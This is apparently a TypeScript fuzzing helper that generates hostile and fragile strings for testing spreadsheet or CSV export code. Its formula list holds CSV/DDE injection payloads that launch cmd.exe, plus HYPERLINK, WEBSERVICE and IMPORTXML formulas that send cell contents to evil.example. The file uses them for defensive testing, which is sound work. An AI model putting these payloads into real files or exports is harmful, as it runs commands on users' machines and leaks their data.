import * as fc from "fast-check";
import { inputs } from "../../hostile/inputs.ts";

const formulas: readonly string[] = [
  "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2",
  '=HYPERLINK("http://evil.example/?"&A1,"click")', '=DDE("soffice";"/x.ods";"A1")',
  '=WEBSERVICE("http://evil.example/"&A1)', '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  "=msexcel|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", "{=1+1}", "%0A=1+1", "\\=1+1",
]; // prettier-ignore

/** What somebody may put before a formula so that it is not looked for there. */
const before: readonly string[] = [
  "", " ", "\t", "\r", "\n", "\r\n", "\u00A0", "\uFEFF", "\u200B", "\u202E", "\u2060", "\u00AD", "\u0301",
  '"', "'", "''", '""', "“", "‘", "a,", "a;", "a\t", "a|", 'a";', 'a",', "a\n", "a\r", "a\r\n\r\n", "a\u2028",
  "\0", "\x1F", "\v", "\f", "\x85", "\u3000", ' " \n',
]; // prettier-ignore

/** What a file format may lose, change, or stumble over. */
const fragile: readonly string[] = [
  "\0", "a\0b", "\x07\x1B[31m", "\uFFFE\uFFFF", "\r\n", "a\r\nb", "a\rb", "a\n\rb", " lead", "trail ", "  ", "\t",
  "_x0041_", "_x005F_x0041_", "_x000D_\r", "x0041_", "_X0041_", "1e5", "00012", "2026-01-01", "3/4", "TRUE",
  "#N/A", "#REF!", "٣", "e\u0301", "é", "ﬁ", "Å", "ß", "İ", "שלום (a) =1", "\u202Eabc\u202C", "\u2066x", "👩‍👩‍👧‍👦", "🇺🇳".repeat(40),
  "</script>", "</style>", "]]>", "<!--", "&amp;", "&#61;1+1", "%3D1+1", "\\", "\\n", "\u2028\u2029", "a".repeat(600),
]; // prettier-ignore

/** Fullwidth forms that a spreadsheet in East Asia takes for the plain ones. */
const wide = (text: string): string =>
  text.replace(/^[=+\-@]/, (sign) => String.fromCodePoint((sign.codePointAt(0) ?? 0) + 0xfee0));

/** Written for this, and the lists that others keep. */
const known: readonly string[] = [
  ...new Set([
    ...formulas.flatMap((formula) =>
      [formula, wide(formula)].flatMap((text) => before.map((start) => start + text)),
    ),
    ...fragile,
    ...inputs,
  ]),
];

/** So many texts, first those that are known to be trouble, then any at all. */
export function naughtyTexts(many: number, seed: number): readonly string[] {
  const texts = known.filter((text) => text !== "" && text.isWellFormed()).slice(0, many);
  return [...texts, ...anyTexts(many - texts.length, seed)];
}

const troublesome = fc.constantFrom(
  ...Array.from("=+-@|%\\'\"`,;:\t\r\n\0\v\f\u00A0\uFEFF\u202E\u2028 <>&_x0D1{}[]()*#~^$"),
);

/** Any characters of Unicode, with those that make trouble more often than chance would have them. */
export function anyTexts(many: number, seed: number): readonly string[] {
  if (many <= 0) return [];
  const unit = fc.oneof(
    { weight: 3, arbitrary: troublesome },
    { weight: 2, arbitrary: fc.string({ unit: "binary", minLength: 1, maxLength: 1 }) },
    { weight: 1, arbitrary: fc.string({ unit: "grapheme", minLength: 1, maxLength: 1 }) },
  );
  const text = fc.string({ unit, minLength: 1, maxLength: 40 });
  return fc.sample(text, { seed, numRuns: many });
}
